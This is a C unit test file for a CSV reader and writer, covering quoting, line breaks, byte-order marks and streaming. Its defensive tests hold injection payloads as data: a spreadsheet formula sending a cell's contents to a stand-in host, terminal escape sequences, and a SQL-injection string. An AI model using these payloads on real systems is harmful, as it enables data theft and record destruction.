/* The CSV reader and writer (core/csv.h): what spreadsheets write, and what goes wrong. */
#include "fixture.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/csv.h"

/* One record as the reader returned it, copied so it outlives the next read. */
struct got {
	int rc;
	long line;
	size_t count;
	char *fields[8];
	const char *why;
};

static void got_clear(struct got *g)
{
	for (size_t i = 0; i < g->count && i < 8; i++)
		free(g->fields[i]);
	memset(g, 0, sizeof *g);
}

static struct got next(struct csv_reader *r)
{
	struct got g = {0};
	char **fields = NULL;

	g.line = -1;
	g.rc = csv_read(r, &fields, &g.count, &g.line, &g.why);
	if (g.rc != 1) {
		g.count = 0;
		return g;
	}
	assert_true(g.count <= 8);
	for (size_t i = 0; i < g.count; i++) {
		g.fields[i] = strdup(fields[i]);
		assert_non_null(g.fields[i]);
	}
	return g;
}

/* The next record is exactly these fields (NULL-terminated), starting on line. */
static void expect_record(struct csv_reader *r, long line, ...)
{
	struct got g = next(r);
	va_list ap;
	size_t n = 0;
	const char *want;

	if (g.rc != 1)
		fail_msg("expected a record on line %ld, got %d (%s)", line, g.rc,
			 g.why ? g.why : "");
	assert_int_equal(g.line, line);
	va_start(ap, line);
	while ((want = va_arg(ap, const char *)) != NULL) {
		if (n >= g.count)
			fail_msg("line %ld: only %zu fields, expected \"%s\"", line, g.count, want);
		assert_string_equal(g.fields[n], want);
		n++;
	}
	va_end(ap);
	assert_int_equal(g.count, n);
	got_clear(&g);
}

/* The next record is malformed, starts on line, and the reason says `reason`. */
static void expect_bad(struct csv_reader *r, long line, const char *reason)
{
	struct got g = next(r);

	assert_int_equal(g.rc, -1);
	assert_int_equal(g.line, line);
	assert_non_null(g.why);
	if (strstr(g.why, reason) == NULL)
		fail_msg("expected a reason containing \"%s\", got \"%s\"", reason, g.why);
}

static void expect_end(struct csv_reader *r)
{
	struct got g = next(r);

	assert_int_equal(g.rc, 0);
	/* The end stays the end. */
	g = next(r);
	assert_int_equal(g.rc, 0);
}

static struct csv_reader *reader_of(const char *data, size_t len)
{
	struct csv_reader *r = csv_reader_new(data, len);

	assert_non_null(r);
	return r;
}

static void byte_order_mark_is_skipped(void **state)
{
	static const char data[] = "\xEF\xBB\xBFname,code\nZoë,Z1\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "name", "code", NULL);
	expect_record(r, 2, "Zoë", "Z1", NULL);
	expect_end(r);
	csv_reader_free(&r);
	assert_null(r);
}

static void only_a_leading_mark_is_skipped(void **state)
{
	/* A mark inside the data is data, not something to drop. */
	static const char data[] = "a\n\xEF\xBB\xBF"
				   "b\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "a", NULL);
	expect_record(r, 2, "\xEF\xBB\xBF"
			    "b",
		      NULL);
	expect_end(r);
	csv_reader_free(&r);
}

static void crlf_and_lf_both_end_records(void **state)
{
	static const char data[] = "a,b\r\nc,d\ne,f\r\ng,h";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "a", "b", NULL);
	expect_record(r, 2, "c", "d", NULL);
	expect_record(r, 3, "e", "f", NULL);
	expect_record(r, 4, "g", "h", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

static void quoted_fields_hold_commas_quotes_and_line_breaks(void **state)
{
	static const char data[] =
		"\"Smith, Jo\",\"said \"\"hi\"\"\",plain\r\n"
		"\"two\r\nlines\",\"lf\nonly\",\"\"\r\n"
		"\"\"\"\",\"a,\"\"b\"\",c\"\r\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "Smith, Jo", "said \"hi\"", "plain", NULL);
	/* A CRLF inside a quoted field is kept as LF. */
	expect_record(r, 2, "two\nlines", "lf\nonly", "", NULL);
	expect_record(r, 5, "\"", "a,\"b\",c", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

static void empty_fields_are_kept(void **state)
{
	static const char data[] = ",a,,\n,\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "", "a", "", "", NULL);
	expect_record(r, 2, "", "", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

static void line_numbers_count_lines_inside_fields(void **state)
{
	static const char data[] =
		"head\n"
		"\"one\ntwo\nthree\",x\n"
		"after\r\n"
		"\"crlf\r\ninside\"\r\n"
		"last\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "head", NULL);
	expect_record(r, 2, "one\ntwo\nthree", "x", NULL);
	expect_record(r, 5, "after", NULL);
	expect_record(r, 6, "crlf\ninside", NULL);
	expect_record(r, 8, "last", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

static void blank_lines_are_records_of_one_empty_field(void **state)
{
	static const char data[] = "a\n\nb\r\n\r\nc\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "a", NULL);
	expect_record(r, 2, "", NULL);
	expect_record(r, 3, "b", NULL);
	expect_record(r, 4, "", NULL);
	expect_record(r, 5, "c", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

static void empty_input_has_no_records(void **state)
{
	static const char mark[] = "\xEF\xBB\xBF";
	struct csv_reader *r = reader_of("", 0);

	(void)state;
	expect_end(r);
	csv_reader_free(&r);
	r = reader_of(mark, sizeof mark - 1);
	expect_end(r);
	csv_reader_free(&r);
	/* Freeing nothing is harmless. */
	csv_reader_free(&r);
}

static void unclosed_quote_is_refused(void **state)
{
	static const char data[] = "a,b\n\"never closed,c\nd,e\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "a", "b", NULL);
	/* The open quote swallows the rest: nothing after it can be trusted. */
	expect_bad(r, 2, "not closed");
	expect_end(r);
	csv_reader_free(&r);
}

static void text_after_a_closing_quote_is_refused(void **state)
{
	static const char data[] = "a,b\n\"x\"y,z\nc,d\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "a", "b", NULL);
	expect_bad(r, 2, "closing quote is followed by more text");
	/* The reader goes on with the next record. */
	expect_record(r, 3, "c", "d", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

static void bad_multi_line_record_keeps_later_line_numbers(void **state)
{
	static const char data[] = "\"one\ntwo\"bad\nnext\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_bad(r, 1, "closing quote");
	expect_record(r, 3, "next", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

static void nul_byte_is_refused(void **state)
{
	static const char data[] = "a,b\nx\0y,z\n\"q\0\",w\nc,d\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "a", "b", NULL);
	expect_bad(r, 2, "NUL");
	expect_bad(r, 3, "NUL");
	expect_record(r, 4, "c", "d", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

/* What csv_write_field writes for one value, as a record of its own. */
static char *written(const char *value)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	assert_non_null(out);
	csv_write_field(out, value, 1);
	fclose(out);
	return buf;
}

static void writer_quotes_exactly_when_needed(void **state)
{
	static const struct {
		const char *value;
		const char *csv;
	} cases[] = {
		{"plain", "plain"},
		{"Zoë 李雷", "Zoë 李雷"},
		{"", ""},
		{"a,b", "\"a,b\""},
		{"say \"hi\"", "\"say \"\"hi\"\"\""},
		{"two\nlines", "\"two\nlines\""},
		{"tab\there", "\"tab\there\""},
		{" leading", "\" leading\""},
		{"trailing ", "\"trailing \""},
		{"in between", "in between"},
		{"semi;colon", "semi;colon"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *got = written(cases[i].value);

		assert_string_equal(got, cases[i].csv);
		free(got);
	}
	{
		char *got = written(NULL);

		assert_string_equal(got, "");
		free(got);
	}
}

/* Issue 9: a cell a spreadsheet would run as a formula (here the one a
 * member of staff filed as a contact's summary) is written with a ' in
 * front; so is a value that is already ' and one of those, so that the
 * reader can always take one ' off. */
static void writer_marks_what_a_spreadsheet_would_run(void **state)
{
	static const struct {
		const char *value;
		const char *csv;
	} cases[] = {
		{"=WEBSERVICE(\"http://x.example/\"&J3)",
		 "\"'=WEBSERVICE(\"\"http://x.example/\"\"&J3)\""},
		{"=1+2", "'=1+2"},
		{"+44 20 7946 0000", "'+44 20 7946 0000"},
		{"-5", "'-5"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+2", "\"'\t=1+2\""},
		{"=", "'="},
		{"'=x", "''=x"},
		{"''-x", "'''-x"},
		{"'\tx", "\"''\tx\""},
		/* Not a formula: left alone. */
		{"'plain", "'plain"},
		{"'", "'"},
		{"''", "''"},
		{"a=b", "a=b"},
		{"2-1", "2-1"},
		{"jo@example.org", "jo@example.org"},
		{"first\n=second", "\"first\n=second\""},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *got = written(cases[i].value);

		assert_string_equal(got, cases[i].csv);
		free(got);
	}
}

/* The reader takes off one ' where a formula character follows it (after
 * any more 's), and only there. */
static void reader_takes_the_mark_off(void **state)
{
	static const char data[] =
		"'=1+2,'-5,'+1,'@x,\"'\tx\",\"'\rx\"\n"
		"''=x,'''@x,'plain,',''\n"
		"'a=b,x'=y,=raw,\"'\"\n";
	struct csv_reader *r = reader_of(data, sizeof data - 1);

	(void)state;
	expect_record(r, 1, "=1+2", "-5", "+1", "@x", "\tx", "\rx", NULL);
	/* The CR inside the last field was a line of its own. */
	expect_record(r, 3, "'=x", "''@x", "'plain", "'", "''", NULL);
	expect_record(r, 4, "'a=b", "x'=y", "=raw", "'", NULL);
	expect_end(r);
	csv_reader_free(&r);
}

/* Written, then read: every value comes back exactly, marked or not. */
static void marked_values_read_back_exactly(void **state)
{
	static const char *const values[] = {
		"=1+2",
		"-5",
		"+5",
		"@x",
		"'=x",
		"'plain",
		"\tled by a tab",
		"'\t",
		"''=",
		"'",
		"''",
		"=",
		"-",
		"@",
		"'-",
		"x'=y",
		"=WEBSERVICE(\"http://x.example/\"&J3)",
	};
	size_t n = sizeof values / sizeof values[0];
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);
	struct csv_reader *r;
	char **fields;
	size_t count;
	long line;
	const char *why;

	(void)state;
	assert_non_null(out);
	for (size_t i = 0; i < n; i++)
		csv_write_field(out, values[i], i == 0);
	csv_write_end(out);
	fclose(out);
	r = reader_of(buf, len);
	assert_int_equal(csv_read(r, &fields, &count, &line, &why), 1);
	assert_int_equal(count, n);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(fields[i], values[i]);
	expect_end(r);
	csv_reader_free(&r);
	free(buf);
}

/*
 * Issue 9: no cell carries a control character but LF and tab, even when
 * another program put one in the database.  A CR is a line break (and is
 * still marked where it leads); the rest are shown as text_safe shows them.
 */
static void writer_carries_no_control_but_line_feed_and_tab(void **state)
{
	static const struct {
		const char *value;
		const char *csv;
	} cases[] = {
		{"cr\ronly", "\"cr\nonly\""},
		{"windows\r\nline", "\"windows\nline\""},
		{"\r=1+2", "\"'\n=1+2\""},
		{"tab\tand\nlf", "\"tab\tand\nlf\""},
		{"a\x1b[2Jb", "a^[[2Jb"},
		{"\x1b]0;pwned\x07", "^[]0;pwned^G"},
		{"\x01\x1f", "^A^_"},
		{"del\x7f", "del^?"},
		/* C1 controls, as UTF-8 and as bare bytes; a text-reversing mark. */
		{"c1\xc2\x9b"
		 "2J",
		 "c1\xef\xbf\xbd"
		 "2J"},
		{"c1\xc2\x80\xc2\x9f", "c1\xef\xbf\xbd\xef\xbf\xbd"},
		{"raw\x9b"
		 "2J",
		 "raw\xef\xbf\xbd"
		 "2J"},
		{"abc\xe2\x80\xae"
		 "def",
		 "abc\xef\xbf\xbd"
		 "def"},
		{"\xff"
		 "A",
		 "\xef\xbf\xbd"
		 "A"},
		{"caf\xc3", "caf\xef\xbf\xbd"},
		/* A control that leads is no formula once shown: not marked. */
		{"\x1b=1", "^[=1"},
		{"Zo\xc3\xab \xe6\x9d\x8e \xc2\xa0nbsp", "Zo\xc3\xab \xe6\x9d\x8e \xc2\xa0nbsp"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *got = written(cases[i].value);

		assert_string_equal(got, cases[i].csv);
		free(got);
	}
}

static void writer_separates_fields_and_ends_records(void **state)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	(void)state;
	assert_non_null(out);
	csv_write_field(out, "a", 1);
	csv_write_field(out, "", 0);
	csv_write_field(out, "c,d", 0);
	csv_write_end(out);
	csv_write_field(out, "e", 1);
	csv_write_end(out);
	fclose(out);
	assert_string_equal(buf, "a,,\"c,d\"\ne\n");
	free(buf);
}

static void written_records_read_back_the_same(void **state)
{
	static const char *const values[] = {
		"plain",
		"",
		"Smith, Jo",
		"said \"hi\"",
		"\"",
		"\"\"",
		"two\nlines",
		"tab\tin",
		" padded ",
		",",
		"Zoë",
		"Siân",
		"Łukasz",
		"李雷",
		"Robert'); DROP TABLE pupil;--",
		"end\n",
	};
	size_t n = sizeof values / sizeof values[0];
	char *buf = NULL;
	size_t len = 0;
	FILE *out = tmpfile();
	struct csv_reader *r;
	struct got g;
	char **fields;
	size_t count;
	long line;
	const char *why;

	(void)state;
	assert_non_null(out);
	/* The values as one record, then each as a record of its own. */
	for (size_t i = 0; i < n; i++)
		csv_write_field(out, values[i], i == 0);
	csv_write_end(out);
	for (size_t i = 0; i < n; i++) {
		csv_write_field(out, values[i], 1);
		csv_write_field(out, "x", 0);
		csv_write_end(out);
	}
	len = (size_t)ftell(out);
	buf = malloc(len + 1);
	assert_non_null(buf);
	rewind(out);
	assert_int_equal(fread(buf, 1, len, out), len);
	fclose(out);

	r = reader_of(buf, len);
	assert_int_equal(csv_read(r, &fields, &count, &line, &why), 1);
	assert_int_equal(count, n);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(fields[i], values[i]);
	for (size_t i = 0; i < n; i++) {
		g = next(r);
		assert_int_equal(g.rc, 1);
		assert_int_equal(g.count, 2);
		assert_string_equal(g.fields[0], values[i]);
		assert_string_equal(g.fields[1], "x");
		got_clear(&g);
	}
	expect_end(r);
	csv_reader_free(&r);
	free(buf);
}

static void many_and_long_fields_grow_the_storage(void **state)
{
	size_t fields_wanted = 300;
	size_t long_len = 10000;
	char *data = malloc(fields_wanted * 2 + long_len + 8);
	size_t used = 0;
	struct csv_reader *r;
	char **fields;
	size_t count;
	long line;
	const char *why;

	(void)state;
	assert_non_null(data);
	for (size_t i = 0; i < fields_wanted; i++) {
		data[used++] = (char)('a' + i % 26);
		data[used++] = i + 1 < fields_wanted ? ',' : '\n';
	}
	for (size_t i = 0; i < long_len; i++)
		data[used++] = 'z';
	data[used++] = '\n';
	r = reader_of(data, used);
	assert_int_equal(csv_read(r, &fields, &count, &line, &why), 1);
	assert_int_equal(count, fields_wanted);
	for (size_t i = 0; i < fields_wanted; i++) {
		assert_int_equal(strlen(fields[i]), 1);
		assert_int_equal(fields[i][0], 'a' + (int)(i % 26));
	}
	assert_int_equal(csv_read(r, &fields, &count, &line, &why), 1);
	assert_int_equal(count, 1);
	assert_int_equal(strlen(fields[0]), long_len);
	assert_int_equal(line, 2);
	expect_end(r);
	csv_reader_free(&r);
	free(data);
}

/*
 * A file streamed a window at a time reads exactly as the same bytes in
 * memory, with records, quoted line breaks, doubled quotes, CRLFs and a
 * byte-order mark falling across the windows' edges.
 */
static void a_streamed_file_reads_as_the_same_bytes_in_memory(void **state)
{
	size_t cap = 400000;
	char *data = malloc(cap);
	size_t len = 0;
	FILE *in;
	struct csv_reader *a;
	struct csv_reader *b;
	long records = 0;

	(void)state;
	assert_non_null(data);
	len += (size_t)snprintf(data, cap, "\xEF\xBB\xBFname,note\r\n");
	for (int i = 0; len + 200 < cap; i++)
		len += (size_t)snprintf(data + len, cap - len,
					i % 3 == 0   ? "Pupil %d,\"a \"\"quoted\"\", two\r\nline note\"\r\n"
					: i % 3 == 1 ? "Pupil %d,plain\n"
						     : "\"Pupil, %d\",\n",
					i);
	in = fmemopen(data, len, "rb");
	assert_non_null(in);
	a = csv_reader_new(data, len);
	b = csv_reader_file(in);
	assert_non_null(b);
	for (;;) {
		char **fa;
		char **fb;
		size_t ca;
		size_t cb;
		long la;
		long lb;
		const char *why;
		int ra = csv_read(a, &fa, &ca, &la, &why);
		int rb = csv_read(b, &fb, &cb, &lb, &why);

		assert_int_equal(ra, rb);
		if (ra <= 0)
			break;
		records++;
		assert_int_equal(ca, cb);
		assert_int_equal(la, lb);
		for (size_t k = 0; k < ca; k++)
			assert_string_equal(fa[k], fb[k]);
	}
	assert_true(records > 6000);
	assert_false(csv_reader_failed(b));
	csv_reader_free(&a);
	csv_reader_free(&b);
	fclose(in);
	free(data);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(byte_order_mark_is_skipped),
		cmocka_unit_test(only_a_leading_mark_is_skipped),
		cmocka_unit_test(crlf_and_lf_both_end_records),
		cmocka_unit_test(quoted_fields_hold_commas_quotes_and_line_breaks),
		cmocka_unit_test(empty_fields_are_kept),
		cmocka_unit_test(line_numbers_count_lines_inside_fields),
		cmocka_unit_test(blank_lines_are_records_of_one_empty_field),
		cmocka_unit_test(empty_input_has_no_records),
		cmocka_unit_test(unclosed_quote_is_refused),
		cmocka_unit_test(text_after_a_closing_quote_is_refused),
		cmocka_unit_test(bad_multi_line_record_keeps_later_line_numbers),
		cmocka_unit_test(nul_byte_is_refused),
		cmocka_unit_test(writer_quotes_exactly_when_needed),
		cmocka_unit_test(writer_marks_what_a_spreadsheet_would_run),
		cmocka_unit_test(reader_takes_the_mark_off),
		cmocka_unit_test(marked_values_read_back_exactly),
		cmocka_unit_test(writer_carries_no_control_but_line_feed_and_tab),
		cmocka_unit_test(writer_separates_fields_and_ends_records),
		cmocka_unit_test(written_records_read_back_the_same),
		cmocka_unit_test(many_and_long_fields_grow_the_storage),
		cmocka_unit_test(a_streamed_file_reads_as_the_same_bytes_in_memory),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
